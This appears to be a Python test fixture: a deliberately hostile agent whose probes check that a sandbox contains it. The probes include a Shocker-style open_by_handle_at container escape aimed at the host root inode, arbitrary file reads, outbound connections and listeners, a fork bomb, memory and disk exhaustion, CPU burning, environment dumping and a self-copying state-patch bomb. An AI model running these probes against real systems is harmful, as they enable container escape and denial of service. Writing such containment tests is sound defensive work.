# Hostile agent for test/security: each message names a probe; the outcome comes back as one
# stream_update {"probe", "result"}. Every probe tries something a sandboxed agent must not manage.
import ctypes
import errno
import os
import socket
import subprocess
import sys
import threading
import time


def _err(error):
    return errno.errorcode.get(error.errno, type(error).__name__) if isinstance(error, OSError) else type(error).__name__


def read(message):
    try:
        with open(message["path"], "rb") as f:
            return "read:" + f.read(200).decode("utf8", "replace")
    except OSError as error:
        return "denied:" + _err(error)


def status(message):
    fields = {}
    with open("/proc/self/status") as f:
        for line in f:
            key, _, value = line.partition(":")
            if key in ("Uid", "Gid", "CapEff", "CapPrm", "CapBnd", "NoNewPrivs", "Seccomp"):
                fields[key] = value.strip()
    return fields


def shocker(message):
    """open_by_handle_at on a handle of the workspace and on the filesystem's root inode (CVE-2014-3519 style)."""
    libc = ctypes.CDLL(None, use_errno=True)

    class Handle(ctypes.Structure):
        _fields_ = [("handle_bytes", ctypes.c_uint), ("handle_type", ctypes.c_int), ("f_handle", ctypes.c_ubyte * 128)]

    handle = Handle()
    handle.handle_bytes = 128
    mount_id = ctypes.c_int()
    if libc.name_to_handle_at(-100, os.getcwd().encode(), ctypes.byref(handle), ctypes.byref(mount_id), 0) != 0:
        return {"name_to_handle_at": errno.errorcode.get(ctypes.get_errno(), "?")}
    out = {}
    dirfd = os.open(".", os.O_RDONLY)
    try:
        fd = libc.open_by_handle_at(dirfd, ctypes.byref(handle), os.O_RDONLY)
        out["own"] = "opened" if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
        if handle.handle_type == 1:  # FILEID_INO32_GEN: aim at inode 2, the root of the host filesystem
            ctypes.memmove(handle.f_handle, (2).to_bytes(4, "little") + bytes(4), 8)
            fd = libc.open_by_handle_at(dirfd, ctypes.byref(handle), os.O_RDONLY)
            out["root"] = "opened:" + ",".join(sorted(os.listdir("/proc/self/fd/%d" % fd))[:20]) if fd >= 0 else errno.errorcode.get(ctypes.get_errno(), "?")
    finally:
        os.close(dirfd)
    return out


def connect(message):
    try:
        with socket.create_connection((message["host"], int(message["port"])), timeout=float(message.get("timeout", 3))) as s:
            s.sendall(b"PING\r\n")
            return "connected"
    except OSError as error:
        return "failed:" + _err(error)


_listeners = []


def listen(message):
    s = socket.socket()
    s.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
    s.bind(("0.0.0.0", int(message["port"])))
    s.listen(5)
    _listeners.append(s)
    return "listening"


def forkbomb(message):
    """Starts sleeping children until the kernel says no; reports how many ran at once."""
    children = []
    try:
        for _ in range(int(message.get("max", 2000))):
            children.append(subprocess.Popen(["/bin/sleep", "30"]))
    except OSError as error:
        failure = _err(error)
    else:
        failure = None
    count = len(children)
    for child in children:
        child.kill()
    for child in children:
        child.wait()
    return {"started": count, "error": failure}


def memhog(message):
    """N children each touch `mb` MiB, then report what survived."""
    code = "import sys,time; b=bytearray(%d*1048576); [b.__setitem__(i, 1) for i in range(0, len(b), 4096)]; print('ok', flush=True); time.sleep(3)" % int(message["mb"])
    children = [subprocess.Popen([sys.executable, "-I", "-S", "-c", code], stdout=subprocess.PIPE) for _ in range(int(message.get("n", 4)))]
    results = []
    for child in children:
        out, _ = child.communicate()
        results.append("ok" if out.strip() == b"ok" and child.returncode == 0 else "killed:%s" % child.returncode)
    return results


def fill(message):
    """Writes 1 MiB chunks into `dir` until a write fails."""
    written = 0
    chunk = b"\0" * 1048576
    path = os.path.join(message["dir"], "filler-%d" % time.monotonic_ns())
    try:
        with open(path, "wb") as f:
            for _ in range(int(message.get("max_mb", 4096))):
                f.write(chunk)
                f.flush()
                os.fsync(f.fileno())
                written += 1
        return {"written_mb": written, "error": None}
    except OSError as error:
        return {"written_mb": written, "error": _err(error)}
    finally:
        try:
            os.unlink(path)
        except OSError:
            pass


def spin(message):
    """Burns CPU after the turn has ended."""
    def burn():
        time.sleep(0.2)
        while True:
            pass

    threading.Thread(target=burn, daemon=True).start()
    return "spinning"


def env(message):
    return {k: v for k, v in os.environ.items() if k.startswith(("ATTACK_", "PODIUM_")) or k in ("LD_PRELOAD", "HOME", "TMPDIR")}


def statebomb(message):
    # A few bytes of JSON Patch that copy the whole state into itself, again and again: written straight to
    # the frame pipe (fd 3), as the SDK would write a state patch.
    import json

    ops = [{"op": "add", "path": "/pad", "value": "A" * 1024}] if message.get("pad") else []
    ops += [{"op": "copy", "from": "", "path": "/c%d_%d" % (message["round"], i)} for i in range(message["copies"])]
    os.write(3, (json.dumps({"type": "state_patch", "turn": message["_turn"], "ops": ops}) + "\n").encode())
    return "sent"


PROBES = {f.__name__: f for f in (read, status, shocker, connect, listen, forkbomb, memhog, fill, spin, env, statebomb)}


def on_message(ctx, message):
    probe = message.get("probe", "")
    try:
        result = PROBES[probe](dict(message, _turn=ctx.turn))
    except Exception as error:  # the probe itself broke: report it, the test decides
        result = "error:%s:%s" % (type(error).__name__, error)
    ctx.send("stream_update", {"probe": probe, "result": result})
